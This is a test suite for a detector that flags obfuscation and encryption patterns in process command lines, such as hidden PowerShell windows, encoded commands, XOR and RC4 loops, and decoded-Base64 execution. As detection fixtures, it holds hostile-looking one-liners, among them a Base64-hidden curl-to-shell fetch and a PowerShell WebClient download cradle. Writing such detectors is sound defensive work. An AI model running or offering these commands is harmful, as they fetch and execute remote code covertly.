import { describe, expect, it } from "vitest";
import { findCommandLineIndicators } from "./command-line-indicators";

const UTF16_BLOB = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";

describe("findCommandLineIndicators", () => {
  it("finds nothing in an absent or empty command line", () => {
    expect(findCommandLineIndicators(null)).toEqual([]);
    expect(findCommandLineIndicators("")).toEqual([]);
  });

  it.each([
    '"chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --enable-features=WinRetrieveSuggestionsOnlyOnDemand',
    "powershell.exe -File C:\\scripts\\backup.ps1",
    "powershell.exe -ExecutionPolicy Bypass -WindowStyle Minimized -File C:\\scripts\\backup.ps1",
    'powershell -ep bypass -c "Get-Date"',
    "svchost.exe -k netsvcs -p",
    "python.exe manage.py runserver",
    "openssl version",
    "notepad.exe C:\\Users\\bob\\encrypted-notes.txt",
    // -w 1 is ping's timeout: PowerShell switches count only when PowerShell runs.
    "ping -w 1 10.0.0.1",
    // Minimised is still visible; launchers use it all the time.
    "cmd /c start /min notepad.exe",
    'pwsh.exe -wd C:\\work -c "Get-ChildItem"',
  ])("does not flag the benign %s", (commandLine) => {
    expect(findCommandLineIndicators(commandLine)).toEqual([]);
  });

  it("reports a hidden PowerShell running an encoded command", () => {
    expect(findCommandLineIndicators(`powershell.exe -NoP -w hidden -enc ${UTF16_BLOB}`)).toEqual([
      { id: "hidden-window", label: "Hidden window", evidence: "-w hidden" },
      { id: "encoded-command", label: "Encoded command", evidence: "-enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp" },
    ]);
  });

  it.each([
    ["powershell -win h -c calc", "-win h"],
    ["powershell.exe /w 1 -c calc", "/w 1"],
    ['pwsh.exe –WindowStyle "hidden" -c calc', '–WindowStyle "hidden"'],
    ["POWERSHELL.EXE -WINDOWS HID -c calc", "-WINDOWS HID"],
  ])("accepts PowerShell's abbreviations of -WindowStyle Hidden: %s", (commandLine, evidence) => {
    expect(findCommandLineIndicators(commandLine)).toEqual([{ id: "hidden-window", label: "Hidden window", evidence }]);
  });

  it.each([
    ["powershell -e ZABpAHIA", "-e ZABpAHIA"],
    ["powershell -ec ZABpAHIA", "-ec ZABpAHIA"],
    ["powershell -EncodedCommand ZABpAHIA", "-EncodedCommand ZABpAHIA"],
    ['pwsh -NoProfile -encodedc "ZABpAHIA"', '-encodedc "ZABpAHIA"'],
  ])("accepts PowerShell's abbreviations of -EncodedCommand: %s", (commandLine, evidence) => {
    expect(findCommandLineIndicators(commandLine)).toEqual([{ id: "encoded-command", label: "Encoded command", evidence }]);
  });

  it("needs a Base64 blob after -EncodedCommand and a long literal in FromBase64String", () => {
    expect(findCommandLineIndicators("powershell -enc $payload")).toEqual([]);
    expect(findCommandLineIndicators("powershell -c \"[Convert]::FromBase64String('aGVsbG8=')\"")).toEqual([]);
  });

  it("reports PowerShell that XORs bytes in a hidden window", () => {
    const commandLine = 'powershell.exe -WindowStyle Hidden -Command "$x=$d|%{$_ -bxor 0x5A}; [IO.File]::WriteAllBytes(\'p.bin\',$x)"';
    expect(findCommandLineIndicators(commandLine)).toEqual([
      { id: "hidden-window", label: "Hidden window", evidence: "-WindowStyle Hidden" },
      { id: "xor-loop", label: "XOR loop", evidence: "$_ -bxor 0x5A" },
    ]);
  });

  it.each([
    ['powershell -c "$aes=[System.Security.Cryptography.Aes]::Create(); $e=$aes.CreateEncryptor()"', "System.Security.Cryptography.Aes"],
    ['pwsh -c "using namespace System.Security.Cryptography; $a=[AesManaged]::new()"', "[AesManaged]"],
    ['powershell -c "$t=$r.CreateDecryptor($k,$iv).TransformFinalBlock($d,0,$d.Length)"', "CreateDecryptor"],
  ])("reports an inline .NET crypto class: %s", (commandLine, evidence) => {
    expect(findCommandLineIndicators(commandLine)).toEqual([{ id: "inline-crypto-class", label: "Inline .NET crypto class", evidence }]);
  });

  it.each([
    [`python3 -c "d=open('p.bin','rb').read();open('p.out','wb').write(bytes(b ^ 0x5A for b in d))"`, "b ^ 0x5A"],
    [`node -e "let s='';for(const c of d)s+=String.fromCharCode(c.charCodeAt(0)^7)"`, "c.charCodeAt(0)^7"],
  ])("reports a Python or JavaScript XOR loop over bytes: %s", (commandLine, evidence) => {
    expect(findCommandLineIndicators(commandLine)).toEqual([{ id: "xor-loop", label: "XOR loop", evidence }]);
  });

  it.each([
    // XOR, but no loop.
    'python -c "print(2^3)"',
    // A regex anchor, not XOR.
    `python -c "import re;print([l for l in open('f') if re.match('^#', chr(35)+l)])"`,
    // cmd's caret escapes in a for loop: not an interpreter that XORs.
    'cmd /c "for %i in (1) do p^o^w^e^r^s^h^e^l^l -c echo ord(1)"',
  ])("does not take every caret for XOR: %s", (commandLine) => {
    expect(findCommandLineIndicators(commandLine)).toEqual([]);
  });

  it("reports an RC4 key schedule written out in Python", () => {
    const commandLine = `python3 -c "k=b'k3y';S=list(range(256));j=0;exec('for i in range(256):\\n j=(j+S[i]+k[i%len(k)])%256;S[i],S[j]=S[j],S[i]')"`;
    expect(findCommandLineIndicators(commandLine)).toEqual([{ id: "rc4-routine", label: "RC4 routine", evidence: "range(256)" }]);
  });

  it("reports an RC4 key schedule in PowerShell, with the XOR that applies the keystream", () => {
    const commandLine = 'powershell -nop -c "$S=0..255;$j=0;0..255|%{$j=($j+$S[$_]+$K[$_%$K.Length])%256;$S[$_],$S[$j]=$S[$j],$S[$_]};$o=$d|%{$_ -bxor $k}"';
    expect(findCommandLineIndicators(commandLine)).toEqual([
      { id: "xor-loop", label: "XOR loop", evidence: "$_ -bxor $k" },
      { id: "rc4-routine", label: "RC4 routine", evidence: "0..255" },
    ]);
  });

  it("reports RC4 called by name, but not RC4 merely mentioned", () => {
    expect(findCommandLineIndicators(`python3 -c "from Crypto.Cipher import ARC4;print(ARC4.new(b'k').decrypt(d))"`)).toEqual([
      { id: "rc4-routine", label: "RC4 routine", evidence: "ARC4.new(" },
    ]);
    expect(
      findCommandLineIndicators('reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\SCHANNEL\\Ciphers\\RC4 128/128" /v Enabled /t REG_DWORD /d 0 /f'),
    ).toEqual([]);
  });

  it("needs key-schedule mixing, not just a 256-entry table, for RC4", () => {
    expect(findCommandLineIndicators('python -c "print(list(range(256)))"')).toEqual([]);
  });

  it.each([
    [`python3 -c "import base64;exec(base64.b64decode('aW1wb3J0IHNvY2tldA=='))"`, "exec(base64.b64decode("],
    [
      `python -c "exec(__import__('zlib').decompress(__import__('base64').b64decode('eJzLSM3JyVcozy/KSQEAGgQEXQ==')))"`,
      "exec(__import__('zlib').decompress(__import__('base64').b64decode(",
    ],
    [`node -e "eval(atob('Y29uc29sZS5sb2coMSk='))"`, "eval(atob("],
    [`/bin/sh -c "echo Y3VybCBodHRwOi8vMTAuMC4wLjUvYSB8IHNo | base64 -d | bash"`, "base64 -d | bash"],
  ])("reports code that executes decoded Base64: %s", (commandLine, evidence) => {
    expect(findCommandLineIndicators(commandLine)).toEqual([{ id: "exec-base64", label: "Executes decoded Base64", evidence }]);
  });

  it("reports IEX of FromBase64String, and the long literal as an encoded command", () => {
    const commandLine = `powershell -nop -c "IEX ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${UTF16_BLOB}')))"`;
    expect(findCommandLineIndicators(commandLine)).toEqual([
      { id: "encoded-command", label: "Encoded command", evidence: "FromBase64String('SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBi" },
      { id: "exec-base64", label: "Executes decoded Base64", evidence: "IEX" },
    ]);
  });

  it.each([
    "base64 -d payload.b64 > payload.bin",
    `python -c "import base64;print(base64.b64decode('aGk='))"`,
    'powershell -c "IEX (Get-Content .\\profile.ps1 -Raw)"',
  ])("does not flag decoding that is not executed: %s", (commandLine) => {
    expect(findCommandLineIndicators(commandLine)).toEqual([]);
  });

  it.each([
    ["openssl enc -aes-256-cbc -salt -in a -out b -k pw", "aes-256-cbc", "openssl enc -aes-256-cbc"],
    ["openssl enc -d -a -DES3 -in /tmp/x", "des3", "openssl enc -d -a -DES3"],
    ['"C:\\Program Files\\OpenSSL\\bin\\openssl.exe" bf-cbc -d -in x', "bf-cbc", 'openssl.exe" bf-cbc'],
  ])("reports OpenSSL symmetric encryption with its cipher: %s", (commandLine, cipher, evidence) => {
    expect(findCommandLineIndicators(commandLine)).toEqual([{ id: "openssl-enc", label: `OpenSSL symmetric encryption (${cipher})`, evidence }]);
  });

  it.each(["openssl enc -base64 -d -in a.b64", "openssl speed aes-256-cbc", "openssl enc -ciphers"])(
    "does not flag OpenSSL that encrypts nothing: %s",
    (commandLine) => {
      expect(findCommandLineIndicators(commandLine)).toEqual([]);
    },
  );

  it("clips long evidence to 80 characters, keeping both ends", () => {
    const commandLine = "openssl enc -d -in /srv/backups/2024/archive-0001.tar.gz -out /srv/restore/archive.tar -aes-256-cbc -k pw";
    expect(findCommandLineIndicators(commandLine)).toEqual([
      {
        id: "openssl-enc",
        label: "OpenSSL symmetric encryption (aes-256-cbc)",
        evidence: "openssl enc -d -in /srv/backups/2024/ar…ut /srv/restore/archive.tar -aes-256-cbc",
      },
    ]);
  });

  it("reports each indicator once, in a fixed order", () => {
    const commandLine =
      `powershell -w hidden -ec ${UTF16_BLOB} -c "$d=[Convert]::FromBase64String('${UTF16_BLOB}');` +
      `$o=$d|%{$_ -bxor 7};$o|%{$_ -bxor 9};IEX $s;$c=[TripleDES]::Create()"`;
    expect(findCommandLineIndicators(commandLine)).toEqual([
      { id: "hidden-window", label: "Hidden window", evidence: "-w hidden" },
      { id: "encoded-command", label: "Encoded command", evidence: "-ec SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp" },
      { id: "inline-crypto-class", label: "Inline .NET crypto class", evidence: "[TripleDES]" },
      { id: "xor-loop", label: "XOR loop", evidence: "$_ -bxor 7" },
      { id: "exec-base64", label: "Executes decoded Base64", evidence: "IEX" },
    ]);
  });

  it("gets through a 200,000-character hostile command line", () => {
    const prefix = 'python3 -c "';
    const suffix = ";exec(base64.b64decode('aGk='))\"";
    const filler = "powershell -w hod -e AAAAAAA exec(S[i],S[ a^b[ 0..25 openssl enc -x FromBase64String('AAAA ".repeat(3000);
    const commandLine = prefix + filler.slice(0, 200_000 - prefix.length - suffix.length) + suffix;
    expect(commandLine).toHaveLength(200_000);
    expect(findCommandLineIndicators(commandLine)).toEqual([
      { id: "exec-base64", label: "Executes decoded Base64", evidence: "exec(base64.b64decode(" },
    ]);
  });
});
